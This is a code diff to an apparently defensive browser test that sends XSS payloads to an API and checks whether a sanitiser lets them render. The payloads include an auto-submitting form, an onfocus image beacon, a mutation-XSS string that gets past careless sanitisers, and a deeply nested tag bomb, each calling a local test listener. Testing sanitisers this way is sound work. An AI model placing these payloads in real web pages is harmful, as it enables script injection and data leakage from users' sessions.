@@ -29,8 +29,9 @@ const HOSTILE = {
   form: (url) => `<form id="f" action="${url}" target="_top"><input name="pin"></form><script>document.getElementById('f').submit()</script>`,
   focus: (url) => `<input autofocus onfocus="new Image().src='${url}'">`,
   body: (url) => `<body background="${url}">`,
-  mutation: (url) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=&quot;new Image().src='${url}'&quot;&gt;">`,
 };
+/** Hostile only after a careless sanitiser has taken it apart and put it together. */
+const MUTATION = `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=&quot;new Image().src='${bird.url}/mutation'&quot;&gt;">`;
 const NESTED = '<div><b>'.repeat(125_000);
 
 const browser = await launch();
@@ -47,7 +48,7 @@ try {
   bird.calls.length = 0;
 
   const ci = caller(facts.gateway, facts.api_key);
-  const said = [...Object.entries(HOSTILE).map(([name, words]) => words(`${bird.url}/${name}`)), NESTED];
+  const said = [...Object.entries(HOSTILE).map(([name, words]) => words(`${bird.url}/${name}`)), MUTATION, NESTED];
   const answers = said.map((metaData) => ci.send('POST', '/accessToken', JSON.stringify({ accessTimesNumber: 2, metaData })));
   const cards = inbox.locator('article.ask');
   await cards.nth(said.length - 1).waitFor();
